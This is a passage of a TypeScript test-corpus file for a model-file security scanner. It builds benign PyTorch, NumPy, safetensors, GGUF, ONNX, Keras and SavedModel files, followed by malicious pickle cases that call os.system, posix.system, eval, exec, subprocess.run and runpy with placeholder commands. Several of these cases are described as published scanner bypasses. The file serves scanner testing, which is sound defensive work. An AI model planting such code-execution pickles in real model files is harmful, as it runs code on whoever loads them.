import type { ModelScanSeverity } from "@openaims/contracts";
import { zlibSync } from "fflate";
import {
  concat,
  float32s,
  framedPickle,
  gguf,
  int64s,
  latin1,
  npy,
  PickleWriter,
  pbField,
  pbMessage,
  reducePickle,
  safetensors,
  stringArgs,
  tar,
  u64,
  utf8,
  zip,
} from "./corpus-writers.js";

/**
 * The regression corpus: every published bypass of the specialist model scanners we found, and
 * real-shaped benign models, each built as a minimal file by writing bytes. `writeCorpus` in
 * corpus-files.ts writes them with manifest.json; corpus.test.ts runs the engine over them.
 */

export interface CorpusCase {
  id: string;
  verdict: "malicious" | "benign";
  /** Path under the corpus folder, e.g. `malicious/pickle-os-system.pkl`. */
  file: string;
  bytes: Uint8Array;
  /** Malicious only: the least severity the expected finding must have. */
  minSeverity?: ModelScanSeverity;
  /**
   * Malicious only: at least one finding at or above minSeverity must carry one of these rule ids.
   * An entry ending in `.*` matches any rule of that prefix (used where the case is about a format's
   * structure and which of its rules fires is the scanner's choice).
   */
  rules?: string[];
  sources: string[];
  description: string;
  /** Why a case is ambiguous or what it does not prove. */
  note?: string;
}

/** Rule ids the engine publishes (packages/modelscan/src/rules). */
export const RULES = {
  codeExecution: "pickle.code-execution-global",
  unsafeCall: "pickle.unsafe-call",
  indirectCall: "pickle.indirect-call",
  unresolvedGlobal: "pickle.unresolved-global",
  pickleAny: "pickle.*",
  numpyAny: "numpy.*",
  kerasAny: "keras.*",
  onnxAny: "onnx.*",
  savedModelAny: "savedmodel.*",
  safetensorsAny: "safetensors.*",
  ggufAny: "gguf.*",
  archiveAny: "archive.*",
  any: "*",
} as const;

/** Any call of a global outside the allowlist: high at least, by either rule. */
const CALL = [RULES.codeExecution, RULES.unsafeCall];
/** A call of something no GLOBAL named (a callable built at load time, or from the extension registry). */
const CHAIN = [RULES.codeExecution, RULES.unsafeCall, RULES.indirectCall, RULES.unresolvedGlobal];

const PICKLESCAN_ADVISORY = (id: string) => `https://github.com/mmaitre314/picklescan/security/advisories/${id}`;
const PICKLESCAN_TESTS = "https://github.com/mmaitre314/picklescan/blob/main/tests/init_data_files.py";
const PAYLOAD = "__import__('os').system('echo corpus')";

// ---------------------------------------------------------------- benign, real-shaped

/**
 * The data.pkl torch.save writes (protocol 2) for a state dict of float tensors: an OrderedDict of
 * `torch._utils._rebuild_tensor_v2(storage, offset, size, stride, requires_grad, OrderedDict())`
 * whose storages are persistent ids `('storage', torch.FloatStorage, key, 'cpu', numel)`, then the
 * `_metadata` attribute set by BUILD.
 */
export function torchStateDictPickle(tensors: readonly { name: string; shape: number[] }[]): Uint8Array {
  const w = new PickleWriter().proto(2);
  let memo = 0;
  const put = () => (memo < 256 ? w.binPut(memo++) : w.longBinPut(memo++));
  // Integers as pickle writes them: BININT1 below 256, BININT2 below 65,536, BININT above.
  const int = (n: number) => (n < 256 ? w.binInt1(n) : n < 65_536 ? w.binInt2(n) : w.binInt(n));
  w.global("collections", "OrderedDict");
  const orderedDict = memo;
  put();
  w.emptyTuple().reduce();
  put();
  w.mark();
  let floatStorage = -1;
  let rebuild = -1;
  tensors.forEach((tensor, index) => {
    const numel = tensor.shape.reduce((a, b) => a * b, 1);
    w.binUnicode(tensor.name);
    put();
    if (rebuild < 0) {
      w.global("torch._utils", "_rebuild_tensor_v2");
      rebuild = memo;
      put();
    } else w.binGet(rebuild);
    w.mark().mark().binUnicode("storage");
    put();
    if (floatStorage < 0) {
      w.global("torch", "FloatStorage");
      floatStorage = memo;
      put();
    } else w.binGet(floatStorage);
    w.binUnicode(String(index));
    put();
    w.binUnicode("cpu");
    put();
    int(numel).tuple();
    put();
    w.binPersId().binInt1(0);
    for (const d of tensor.shape) int(d);
    tensor.shape.length === 1 ? w.tuple1() : w.tuple2();
    put();
    // Contiguous strides.
    const strides = tensor.shape.map((_, i) => tensor.shape.slice(i + 1).reduce((a, b) => a * b, 1));
    for (const s of strides) int(s);
    strides.length === 1 ? w.tuple1() : w.tuple2();
    put();
    w.newFalse().binGet(orderedDict).emptyTuple().reduce();
    put();
    w.tuple();
    put();
    w.reduce();
    put();
  });
  w.setItems();
  // state: {'_metadata': OrderedDict([('', {'version': 1})])}
  w.emptyDict();
  put();
  w.binUnicode("_metadata");
  put();
  w.binGet(orderedDict).emptyTuple().reduce();
  put();
  w.binUnicode("");
  put();
  w.emptyDict();
  put();
  w.binUnicode("version");
  put();
  w.binInt1(1).setItem().setItem().setItem().build();
  return w.stop().bytes();
}

/**
 * A training checkpoint as `torch.save({"epoch": …, "model_state_dict": …, "optimizer_state_dict": …})`
 * writes it (protocol 2): a plain dict holding an int, a float, a state dict of half and bfloat16
 * tensors, one tensor saved as an nn.Parameter (`_rebuild_parameter`), and the optimizer's state
 * of plain dicts, lists and floats.
 */
export function torchCheckpointPickle(): Uint8Array {
  const w = new PickleWriter().proto(2);
  let memo = 0;
  const put = () => w.binPut(memo++);
  const globals = new Map<string, number>();
  const global = (module: string, name: string) => {
    const key = `${module}.${name}`;
    const at = globals.get(key);
    if (at !== undefined) return w.binGet(at);
    w.global(module, name);
    globals.set(key, memo);
    return put();
  };
  const tensor = (storage: string, key: string, shape: number[]) => {
    global("torch._utils", "_rebuild_tensor_v2");
    w.mark().mark().binUnicode("storage");
    put();
    global("torch", storage);
    w.binUnicode(key);
    put();
    w.binUnicode("cpu");
    put();
    w.binInt1(shape.reduce((a, b) => a * b, 1)).tuple();
    put();
    w.binPersId().binInt1(0);
    for (const d of shape) w.binInt1(d);
    shape.length === 1 ? w.tuple1() : w.tuple2();
    put();
    const strides = shape.map((_, i) => shape.slice(i + 1).reduce((a, b) => a * b, 1));
    for (const d of strides) w.binInt1(d);
    strides.length === 1 ? w.tuple1() : w.tuple2();
    put();
    w.newFalse();
    global("collections", "OrderedDict");
    w.emptyTuple().reduce();
    put();
    w.tuple();
    put();
    w.reduce();
    put();
  };
  w.emptyDict();
  put();
  w.mark();
  w.binUnicode("epoch");
  put();
  w.binInt1(3);
  w.binUnicode("loss");
  put();
  w.binFloat(0.125);
  w.binUnicode("model_state_dict");
  put();
  global("collections", "OrderedDict");
  w.emptyTuple().reduce();
  put();
  w.mark();
  w.binUnicode("embed.weight");
  put();
  tensor("HalfStorage", "0", [2, 3]);
  w.binUnicode("norm.weight");
  put();
  tensor("BFloat16Storage", "1", [2]);
  w.binUnicode("head.weight");
  put();
  // An nn.Parameter: _rebuild_parameter(tensor, requires_grad, OrderedDict()).
  global("torch._utils", "_rebuild_parameter");
  w.mark();
  tensor("FloatStorage", "2", [2, 2]);
  w.newTrue();
  global("collections", "OrderedDict");
  w.emptyTuple().reduce();
  put();
  w.tuple();
  put();
  w.reduce();
  put();
  w.setItems();
  w.binUnicode("optimizer_state_dict");
  put();
  w.emptyDict();
  put();
  w.mark();
  w.binUnicode("state");
  put();
  w.emptyDict();
  put();
  w.binUnicode("param_groups");
  put();
  w.emptyList();
  put();
  w.emptyDict();
  put();
  w.mark();
  w.binUnicode("lr");
  put();
  w.binFloat(0.001);
  w.binUnicode("betas");
  put();
  w.binFloat(0.9).binFloat(0.999).tuple2();
  put();
  w.binUnicode("params");
  put();
  w.emptyList();
  put();
  w.mark().binInt1(0).binInt1(1).binInt1(2).appends();
  w.setItems().append();
  w.setItems();
  w.setItems();
  return w.stop().bytes();
}

const STATE_DICT = [
  { name: "linear.weight", shape: [2, 3] },
  { name: "linear.bias", shape: [2] },
];

/** A zip checkpoint laid out as torch.save writes it, under `prefix/`. */
function torchZip(prefix: string, dataPkl: Uint8Array, storages: readonly Uint8Array[] = []): Uint8Array {
  return zip([
    { name: `${prefix}/data.pkl`, data: dataPkl, align: 64 },
    { name: `${prefix}/byteorder`, data: utf8("little"), align: 64 },
    ...storages.map((data, index) => ({ name: `${prefix}/data/${index}`, data, align: 64 })),
    { name: `${prefix}/version`, data: utf8("3\n"), align: 64 },
    { name: `${prefix}/.data/serialization_id`, data: utf8("1234567890123456789012345678901234567890") },
  ]);
}

const WEIGHT = float32s([0.5, -1.25, 2, 0.75, -0.5, 1]);
const BIAS = float32s([0.1, -0.2]);

function legacyTorchBin(dataPkl: Uint8Array, keys: readonly string[], storages: readonly Uint8Array[]): Uint8Array {
  // Magic number 0x1950a86a20f9469cfc6c as LONG1, protocol version 1001, sys_info, the data pickle,
  // the storage keys, then each storage as an 8-byte element count and its raw bytes.
  const magic = new PickleWriter()
    .proto(2)
    .long1(Uint8Array.of(0x6c, 0xfc, 0x9c, 0x46, 0xf9, 0x20, 0x6a, 0xa8, 0x50, 0x19))
    .stop()
    .bytes();
  const version = new PickleWriter().proto(2).binInt2(1001).stop().bytes();
  const sysInfo = new PickleWriter()
    .proto(2)
    .emptyDict()
    .binPut(0)
    .mark()
    .binUnicode("protocol_version")
    .binPut(1)
    .binInt2(1001)
    .binUnicode("little_endian")
    .binPut(2)
    .newTrue()
    .binUnicode("type_sizes")
    .binPut(3)
    .emptyDict()
    .binPut(4)
    .mark()
    .binUnicode("short")
    .binPut(5)
    .binInt1(2)
    .binUnicode("int")
    .binPut(6)
    .binInt1(4)
    .binUnicode("long")
    .binPut(7)
    .binInt1(4)
    .setItems()
    .setItems()
    .stop()
    .bytes();
  const keyList = new PickleWriter().proto(2).emptyList().binPut(0).mark();
  keys.forEach((key, i) => {
    keyList.binUnicode(key).binPut(i + 1);
  });
  keyList.appends().stop();
  return concat([
    magic,
    version,
    sysInfo,
    dataPkl,
    keyList.bytes(),
    ...storages.flatMap((s) => [u64(s.byteLength / 4), s]),
  ]);
}

/** numpy ndarray pickled at protocol 2 (with `_codecs.encode` for the bytes), as NumPy 1.x writes it. */
function ndarrayPickleProtocol2(module: string, data: Uint8Array, shape: [number, number]): Uint8Array {
  const w = new PickleWriter().proto(2);
  w.global(module, "_reconstruct").binPut(0);
  w.global("numpy", "ndarray").binPut(1);
  w.binInt1(0).tuple1().binPut(2);
  w.global("_codecs", "encode").binPut(3);
  w.binUnicode("b").binPut(4).binUnicode("latin1").binPut(5).tuple2().binPut(6).reduce().binPut(7);
  w.tuple3().binPut(8).reduce().binPut(9);
  w.mark().binInt1(1).binInt1(shape[0]).binInt1(shape[1]).tuple2().binPut(10);
  w.global("numpy", "dtype").binPut(11);
  w.binUnicode("f4").binPut(12).newFalse().newTrue().tuple3().binPut(13).reduce().binPut(14);
  w.mark().binInt1(3).binUnicode("<").binPut(15).none().none().none().binInt(-1).binInt(-1).binInt1(0).tuple();
  w.binPut(16).build().newFalse().binGet(3);
  // Protocol 2 writes bytes as the latin-1 text of them, re-encoded by _codecs.encode.
  w.binUnicode(String.fromCharCode(...data))
    .binPut(17)
    .binGet(5)
    .tuple2()
    .binPut(18)
    .reduce()
    .binPut(19)
    .tuple()
    .binPut(20)
    .build();
  return w.stop().bytes();
}

/** numpy ndarray pickled at protocol 4, as NumPy 2.x writes it. */
function ndarrayPickleProtocol4(data: Uint8Array, shape: [number, number]): Uint8Array {
  return framedPickle((w) => {
    w.shortBinUnicode("numpy._core.multiarray")
      .memoize()
      .shortBinUnicode("_reconstruct")
      .memoize()
      .stackGlobal()
      .memoize();
    w.shortBinUnicode("numpy").memoize().shortBinUnicode("ndarray").memoize().stackGlobal().memoize();
    w.binInt1(0).tuple1().memoize().shortBinBytes(latin1("b")).memoize().tuple3().memoize().reduce().memoize();
    w.mark().binInt1(1).binInt1(shape[0]).binInt1(shape[1]).tuple2().memoize();
    w.binGet(3).shortBinUnicode("dtype").memoize().stackGlobal().memoize();
    w.shortBinUnicode("f4").memoize().newFalse().newTrue().tuple3().memoize().reduce().memoize();
    w.mark().binInt1(3).shortBinUnicode("<").memoize().none().none().none().binInt(-1).binInt(-1).binInt1(0).tuple();
    w.memoize().build().newFalse().shortBinBytes(data).memoize().tuple().memoize().build();
  });
}

const CHATML_TEMPLATE =
  "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] | trim + '<|im_end|>\\n' }}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}";
const LLAMA3_TEMPLATE =
  "{{ bos_token }}{% for message in messages %}{% if loop.index0 == 0 and message['role'] != 'system' %}{{ '<|start_header_id|>system<|end_header_id|>\\n\\nAnswer briefly.<|eot_id|>' }}{% endif %}{{ '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n' + message['content'] | trim + '<|eot_id|>' }}{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}";

function llamaGguf(template: string): Uint8Array {
  return gguf(
    [
      ["general.architecture", { type: "string", value: "llama" }],
      ["general.name", { type: "string", value: "corpus-tiny" }],
      ["general.alignment", { type: "u32", value: 32 }],
      ["llama.context_length", { type: "u32", value: 128 }],
      ["llama.embedding_length", { type: "u32", value: 4 }],
      ["llama.block_count", { type: "u32", value: 1 }],
      ["llama.attention.head_count", { type: "u32", value: 1 }],
      ["tokenizer.ggml.model", { type: "string", value: "gpt2" }],
      ["tokenizer.ggml.tokens", { type: "string[]", value: ["<s>", "</s>", "a", "b"] }],
      ["tokenizer.ggml.scores", { type: "f32[]", value: [0, 0, -1, -2] }],
      ["tokenizer.ggml.token_type", { type: "i32[]", value: [3, 3, 1, 1] }],
      ["tokenizer.ggml.bos_token_id", { type: "u32", value: 0 }],
      ["tokenizer.ggml.eos_token_id", { type: "u32", value: 1 }],
      ["tokenizer.chat_template", { type: "string", value: template }],
    ],
    [
      {
        name: "token_embd.weight",
        dims: [4, 4],
        type: 0,
        data: float32s(Array.from({ length: 16 }, (_, i) => i / 16)),
      },
      { name: "output_norm.weight", dims: [4], type: 0, data: float32s([1, 1, 1, 1]) },
    ],
  );
}

// ONNX: ModelProto{ir_version=1, producer_name=2, graph=7, opset_import=8}; GraphProto{node=1, name=2,
// initializer=5, input=11, output=12}; NodeProto{input=1, output=2, name=3, op_type=4, domain=7};
// TensorProto{dims=1, data_type=2, name=8, raw_data=9, external_data=13, data_location=14}.
function onnxValueInfo(name: string, dims: number[]): Uint8Array {
  const shape = pbMessage(...dims.map((d) => pbField(1, pbMessage(pbField(1, d)))));
  const tensorType = pbMessage(pbField(1, 1), pbField(2, shape));
  return pbMessage(pbField(1, name), pbField(2, pbMessage(pbField(1, tensorType))));
}
function onnxNode(op: string, inputs: string[], outputs: string[], domain?: string): Uint8Array {
  return pbMessage(
    ...inputs.map((i) => pbField(1, i)),
    ...outputs.map((o) => pbField(2, o)),
    pbField(3, `${op.toLowerCase()}_0`),
    pbField(4, op),
    ...(domain ? [pbField(7, domain)] : []),
  );
}
function onnxTensor(name: string, dims: number[], data: Uint8Array, externalPath?: string): Uint8Array {
  return pbMessage(
    ...dims.map((d) => pbField(1, d)),
    pbField(2, 1),
    pbField(8, name),
    ...(externalPath
      ? [
          pbField(13, pbMessage(pbField(1, "location"), pbField(2, externalPath))),
          pbField(13, pbMessage(pbField(1, "offset"), pbField(2, "0"))),
          pbField(13, pbMessage(pbField(1, "length"), pbField(2, String(data.byteLength)))),
          pbField(14, 1),
        ]
      : [pbField(9, data)]),
  );
}
function onnxModel(
  options: { customDomain?: string; externalPath?: string; subgraphExternalPath?: string } = {},
): Uint8Array {
  const nodes = [
    onnxNode("MatMul", ["x", "W"], ["h"]),
    onnxNode("Add", ["h", "B"], ["z"]),
    onnxNode("Relu", ["z"], ["y"]),
  ];
  if (options.customDomain) nodes.push(onnxNode("RunCommand", ["y"], ["y2"], options.customDomain));
  if (options.subgraphExternalPath) {
    // An If node whose branches are graphs (AttributeProto{name=1, g=6, type=20 (GRAPH=5)}); the
    // then-branch's initializer keeps its data outside the model folder.
    const branch = (external?: string) =>
      pbMessage(
        pbField(1, onnxNode("Identity", ["C"], ["out"])),
        pbField(2, "branch"),
        pbField(5, onnxTensor("C", [2], BIAS, external)),
        pbField(12, onnxValueInfo("out", [2])),
      );
    nodes.push(
      pbMessage(
        pbField(1, "cond"),
        pbField(2, "y_if"),
        pbField(3, "if_0"),
        pbField(4, "If"),
        pbField(
          5,
          pbMessage(pbField(1, "then_branch"), pbField(6, branch(options.subgraphExternalPath)), pbField(20, 5)),
        ),
        pbField(5, pbMessage(pbField(1, "else_branch"), pbField(6, branch()), pbField(20, 5))),
      ),
    );
  }
  const graph = pbMessage(
    ...nodes.map((n) => pbField(1, n)),
    pbField(2, "corpus_graph"),
    pbField(5, onnxTensor("W", [3, 2], WEIGHT, options.externalPath)),
    pbField(5, onnxTensor("B", [2], BIAS)),
    pbField(11, onnxValueInfo("x", [1, 3])),
    pbField(12, onnxValueInfo(options.customDomain ? "y2" : "y", [1, 2])),
  );
  return pbMessage(
    pbField(1, 8),
    pbField(2, "corpus"),
    pbField(3, "1.0"),
    pbField(7, graph),
    pbField(8, pbMessage(pbField(1, ""), pbField(2, 17))),
    ...(options.customDomain ? [pbField(8, pbMessage(pbField(1, options.customDomain), pbField(2, 1)))] : []),
  );
}

// SavedModel: SavedModel{saved_model_schema_version=1, meta_graphs=2}; MetaGraphDef{meta_info_def=1,
// graph_def=2}; MetaInfoDef{tags=4}; GraphDef{node=1}; NodeDef{name=1, op=2, input=3}.
// GraphDef{library=2}; FunctionDefLibrary{function=1}; FunctionDef{signature=1 (OpDef{name=1}), node_def=3}.
function savedModel(
  ops: readonly [string, string, string[]][],
  library?: { name: string; ops: readonly [string, string, string[]][] },
): Uint8Array {
  const nodeDef = ([name, op, inputs]: readonly [string, string, string[]]) =>
    pbMessage(pbField(1, name), pbField(2, op), ...inputs.map((i) => pbField(3, i)));
  const graph = pbMessage(
    ...ops.map((node) => pbField(1, nodeDef(node))),
    ...(library
      ? [
          pbField(
            2,
            pbMessage(
              pbField(
                1,
                pbMessage(
                  pbField(1, pbMessage(pbField(1, library.name))),
                  ...library.ops.map((n) => pbField(3, nodeDef(n))),
                ),
              ),
            ),
          ),
        ]
      : []),
  );
  const meta = pbMessage(pbField(1, pbMessage(pbField(4, "serve"))), pbField(2, graph));
  return pbMessage(pbField(1, 1), pbField(2, meta));
}

function kerasZip(config: unknown): Uint8Array {
  return zip([
    {
      name: "metadata.json",
      data: utf8(JSON.stringify({ keras_version: "3.3.3", date_saved: "2024-01-01@00:00:00" })),
    },
    { name: "config.json", data: utf8(JSON.stringify(config)) },
  ]);
}

/**
 * An HDF5-shaped legacy Keras file: the HDF5 signature, a little binary structure, then the
 * model_config attribute's JSON text between NULs, where h5py leaves a string attribute. Not a
 * complete HDF5 file (no object headers a reader could walk): enough for scanners that look for the
 * config text, which is what Keras reads.
 */
function h5Shaped(modelConfig: string): Uint8Array {
  return concat([
    Uint8Array.of(0x89, 0x48, 0x44, 0x46, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0, 0, 8, 8, 0),
    new Uint8Array(48),
    latin1("model_config\0"),
    Uint8Array.of(0x01, 0x00, 0x0c, 0x00, 0xff, 0x13, 0x00, 0x00),
    utf8(modelConfig),
    new Uint8Array(64),
  ]);
}

/** The Keras 2 Sequential config of a legacy .h5 with one Lambda layer, as JSON text. */
const legacyLambdaConfig = () =>
  JSON.stringify({
    class_name: "Sequential",
    config: {
      name: "sequential",
      layers: [
        { class_name: "Dense", config: { name: "dense", units: 4, activation: "relu" } },
        {
          class_name: "Lambda",
          config: { name: "lambda", function: [MARSHAL_B64, null, null], function_type: "lambda", module: "__main__" },
        },
      ],
    },
  });

function denseLayer(name: string, units: number, extra: Record<string, unknown> = {}) {
  return {
    module: "keras.layers",
    class_name: "Dense",
    config: { name, trainable: true, dtype: "float32", units, activation: "relu", use_bias: true, ...extra },
    registered_name: null,
  };
}
function sequential(layers: unknown[]) {
  return {
    module: "keras",
    class_name: "Sequential",
    config: {
      name: "sequential",
      trainable: true,
      dtype: "float32",
      layers: [
        {
          module: "keras.layers",
          class_name: "InputLayer",
          config: { batch_shape: [null, 4], dtype: "float32", name: "input" },
        },
        ...layers,
      ],
    },
    registered_name: null,
  };
}

/** Bytes shaped like a marshalled code object (type byte 0xe3 + flags), base64 as Keras stores it. */
const MARSHAL_B64 = Buffer.from(
  concat([Uint8Array.of(0xe3), new Uint8Array(16), latin1("\x97\x00t\x01\x00\x00\x00\x00\x00\x00\x00\x00")]),
).toString("base64");

function benign(): CorpusCase[] {
  const cases: Omit<CorpusCase, "verdict">[] = [
    {
      id: "torch-zip-state-dict",
      file: "benign/torch-zip-state-dict.pt",
      bytes: torchZip("archive", torchStateDictPickle(STATE_DICT), [WEIGHT, BIAS]),
      sources: ["https://github.com/pytorch/pytorch/blob/main/torch/serialization.py"],
      description:
        "A two-tensor state dict as torch.save writes it: archive/data.pkl (OrderedDict, _rebuild_tensor_v2, storage persistent ids), aligned archive/data/N storages, version, byteorder and .data/serialization_id.",
    },
    {
      id: "torch-zip-other-folder",
      file: "benign/torch-zip-other-folder.pth",
      bytes: torchZip("linear_model", torchStateDictPickle(STATE_DICT), [WEIGHT, BIAS]),
      sources: ["https://github.com/pytorch/pytorch/blob/main/torch/serialization.py"],
      description:
        "The same checkpoint under another top-level folder name, which torch.save takes from the file name.",
    },
    {
      id: "torch-zip-training-checkpoint",
      file: "benign/training-checkpoint.pt",
      bytes: torchZip("checkpoint", torchCheckpointPickle(), [
        Uint8Array.of(0x66, 0x2e, 0x66, 0xb2, 0, 0x3c, 0, 0x40, 0, 0x3c, 0, 0x40),
        Uint8Array.of(0x80, 0x3f, 0x00, 0x40),
        float32s([1, 0, 0, 1]),
      ]),
      sources: [
        "https://pytorch.org/tutorials/beginner/saving_loading_models.html",
        "https://github.com/pytorch/pytorch/blob/main/torch/_utils.py",
      ],
      description:
        "A training checkpoint dict (epoch, loss, a state dict of half and bfloat16 tensors and one nn.Parameter, the optimizer's param groups) as torch.save writes it.",
    },
    {
      id: "torch-legacy-bin",
      file: "benign/pytorch_model.bin",
      bytes: legacyTorchBin(torchStateDictPickle(STATE_DICT), ["0", "1"], [WEIGHT, BIAS]),
      sources: ["https://github.com/pytorch/pytorch/blob/main/torch/serialization.py"],
      description:
        "A legacy (pre-1.6, non-zip) PyTorch file: magic number, protocol version and sys_info pickles, the state dict pickle, the storage keys, then the raw storages.",
    },
    {
      id: "numpy-npy-float32",
      file: "benign/weights-float32.npy",
      bytes: npy("<f4", [2, 3], WEIGHT),
      sources: ["https://numpy.org/doc/stable/reference/generated/numpy.lib.format.html"],
      description: "A 2×3 float32 .npy array (format 1.0).",
    },
    {
      id: "numpy-npy-int64",
      file: "benign/labels-int64.npy",
      bytes: npy("<i8", [4], int64s([0, 1, 1, 0])),
      sources: ["https://numpy.org/doc/stable/reference/generated/numpy.lib.format.html"],
      description: "A 1-D int64 .npy array.",
    },
    {
      id: "numpy-npz",
      file: "benign/arrays.npz",
      bytes: zip([
        { name: "weight.npy", data: npy("<f4", [2, 3], WEIGHT) },
        { name: "labels.npy", data: npy("<i8", [4], int64s([0, 1, 1, 0])) },
      ]),
      sources: ["https://numpy.org/doc/stable/reference/generated/numpy.savez.html"],
      description: "An .npz (zip of .npy) of two plain-dtype arrays, as numpy.savez writes it.",
    },
    {
      id: "numpy-ndarray-pickle-protocol2",
      file: "benign/ndarray-protocol2.pkl",
      bytes: ndarrayPickleProtocol2("numpy.core.multiarray", WEIGHT, [2, 3]),
      sources: ["https://github.com/numpy/numpy/blob/main/numpy/_core/src/multiarray/methods.c"],
      description:
        "A float32 ndarray pickled at protocol 2 as NumPy 1.x does: numpy.core.multiarray._reconstruct, numpy.dtype, BUILD, and the data through _codecs.encode.",
    },
    {
      id: "numpy-ndarray-pickle-protocol4",
      file: "benign/ndarray-protocol4.pkl",
      bytes: ndarrayPickleProtocol4(WEIGHT, [2, 3]),
      sources: ["https://github.com/numpy/numpy/blob/main/numpy/_core/src/multiarray/methods.c"],
      description: "The same ndarray pickled at protocol 4 as NumPy 2.x does (numpy._core.multiarray, framed).",
    },
    {
      id: "pickle-plain-containers",
      file: "benign/plain-containers.pkl",
      bytes: framedPickle((w) => {
        w.emptyDict().memoize().mark();
        w.shortBinUnicode("labels").memoize().emptyList().memoize().mark();
        w.shortBinUnicode("cat").memoize().shortBinUnicode("dog").memoize().appends();
        w.shortBinUnicode("threshold").memoize().binFloat(0.5);
        w.shortBinUnicode("sizes").memoize().binInt1(1).binInt1(2).tuple2().memoize();
        w.setItems();
      }),
      sources: ["https://docs.python.org/3/library/pickle.html"],
      description: "A protocol 4 pickle of plain containers (dict, list, tuple, str, float, int): no global at all.",
    },
    {
      id: "safetensors-dtypes",
      file: "benign/model.safetensors",
      bytes: safetensors(
        [
          { name: "embed.weight", dtype: "F32", shape: [2, 3], data: WEIGHT },
          { name: "embed.bias", dtype: "F16", shape: [2], data: Uint8Array.of(0x66, 0x2e, 0x66, 0xb2) },
          { name: "norm.weight", dtype: "BF16", shape: [2], data: Uint8Array.of(0x80, 0x3f, 0x00, 0x40) },
          { name: "position_ids", dtype: "I64", shape: [1, 4], data: int64s([0, 1, 2, 3]) },
          { name: "mask", dtype: "BOOL", shape: [4], data: Uint8Array.of(1, 1, 0, 1) },
          { name: "quant.scale", dtype: "U8", shape: [4], data: Uint8Array.of(1, 2, 3, 4) },
        ],
        { format: "pt", source: "corpus" },
      ),
      sources: ["https://github.com/huggingface/safetensors#format"],
      description: "A safetensors file with F32, F16, BF16, I64, BOOL and U8 tensors back to back and string metadata.",
    },
    {
      id: "gguf-chatml-template",
      file: "benign/chatml.gguf",
      bytes: llamaGguf(CHATML_TEMPLATE),
      sources: ["https://github.com/ggml-org/ggml/blob/master/docs/gguf.md"],
      description:
        "A GGUF v3 file with llama metadata, a tiny vocabulary, two F32 tensors and a ChatML-shaped template.",
    },
    {
      id: "gguf-llama3-template",
      file: "benign/llama3.gguf",
      bytes: llamaGguf(LLAMA3_TEMPLATE),
      sources: ["https://github.com/ggml-org/ggml/blob/master/docs/gguf.md"],
      description:
        "The same GGUF with a Llama-3-shaped template (header ids, loop.index0, trim filter, generation prompt).",
    },
    {
      id: "onnx-standard-ops",
      file: "benign/linear.onnx",
      bytes: onnxModel(),
      sources: ["https://github.com/onnx/onnx/blob/main/onnx/onnx.proto"],
      description: "An ONNX model of MatMul, Add and Relu in the default domain with inline initializers.",
    },
    {
      id: "keras-dense",
      file: "benign/dense.keras",
      bytes: kerasZip(sequential([denseLayer("dense", 8), denseLayer("dense_1", 2)])),
      sources: ["https://keras.io/guides/serialization_and_saving/"],
      description: "A .keras zip (metadata.json, config.json) of a Sequential model of two Dense layers.",
      note: "Has no model.weights.h5: writing HDF5 by hand is out of this corpus's reach; the scanners judge config.json.",
    },
    {
      id: "tf-savedmodel-standard-ops",
      file: "benign/tf-savedmodel/saved_model.pb",
      bytes: savedModel([
        ["x", "Placeholder", []],
        ["w", "VarHandleOp", []],
        ["w_read", "ReadVariableOp", ["w"]],
        ["mm", "MatMul", ["x", "w_read"]],
        ["y", "Relu", ["mm"]],
        ["out", "Identity", ["y"]],
      ]),
      sources: ["https://github.com/tensorflow/tensorflow/blob/master/tensorflow/core/protobuf/saved_model.proto"],
      description: "A SavedModel graph of Placeholder, variable read, MatMul, Relu and Identity.",
    },
  ];
  return cases.map((c) => ({ ...c, verdict: "benign" as const }));
}

// ---------------------------------------------------------------- malicious

type Mal = Omit<CorpusCase, "verdict" | "file"> & { ext: string };

/** A pickle case calling `module.name(*args)`. */
function callCase(
  id: string,
  module: string,
  name: string,
  args: string[],
  sources: string[],
  description: string,
  minSeverity: ModelScanSeverity = "high",
  protocol: 0 | 2 | 3 | 4 = 4,
): Mal {
  return {
    id,
    ext: "pkl",
    bytes: reducePickle(module, name, stringArgs(...args), protocol),
    minSeverity,
    rules: CALL,
    sources,
    description,
  };
}

/** `cls.method(<empty dict as self>, payload…)` — the unbound-method shape of many advisories. */
function methodCase(
  id: string,
  module: string,
  qualname: string,
  args: string[],
  sources: string[],
  description: string,
): Mal {
  return {
    id,
    ext: "pkl",
    bytes: framedPickle((w) => {
      w.stackGlobalOf(module, qualname).memoize().mark().emptyDict();
      for (const a of args) w.binUnicode(a);
      w.tuple().memoize().reduce().memoize();
    }),
    minSeverity: "high",
    rules: CALL,
    sources,
    description,
  };
}

function maliciousPickles(): Mal[] {
  const os = (w: PickleWriter) => w.binUnicode("echo corpus").tuple1();
  const cases: Mal[] = [
    callCase(
      "pickle-os-system-protocol0",
      "os",
      "system",
      ["echo corpus"],
      [PICKLESCAN_TESTS],
      "os.system through a protocol 0 GLOBAL and REDUCE: the baseline every scanner must catch.",
      "critical",
      0,
    ),
    callCase(
      "pickle-posix-system-protocol2",
      "posix",
      "system",
      ["echo corpus"],
      ["https://github.com/mmaitre314/picklescan/blob/main/src/picklescan/scanner.py"],
      "posix.system, the name os.system pickles under on Linux (denylists keyed on `os` miss it).",
      "critical",
      2,
    ),
    callCase(
      "pickle-builtins-eval-protocol4",
      "builtins",
      "eval",
      [PAYLOAD],
      [PICKLESCAN_TESTS],
      "builtins.eval through STACK_GLOBAL in a framed protocol 4 pickle.",
      "critical",
    ),
    callCase(
      "pickle-python2-builtin-exec",
      "__builtin__",
      "exec",
      [PAYLOAD],
      ["https://github.com/promptfoo/modelaudit/pull/241"],
      "Python 2 name __builtin__.exec, which protocol < 3 loads map to builtins.exec (fix_imports).",
      "critical",
      2,
    ),
    callCase(
      "pickle-python2-commands-getoutput",
      "commands",
      "getoutput",
      ["id"],
      ["https://github.com/python/cpython/blob/main/Lib/_compat_pickle.py"],
      "Python 2 module name `commands`, which fix_imports maps to subprocess: a denylist of Python 3 names misses it.",
      "high",
      2,
    ),
    callCase(
      "pickle-subprocess-run",
      "subprocess",
      "run",
      ["id"],
      [PICKLESCAN_TESTS],
      "subprocess.run with a command.",
      "critical",
    ),
    callCase(
      "pickle-runpy-run-code",
      "runpy",
      "_run_code",
      [PAYLOAD],
      [PICKLESCAN_TESTS, "https://github.com/mmaitre314/picklescan/pull/25"],
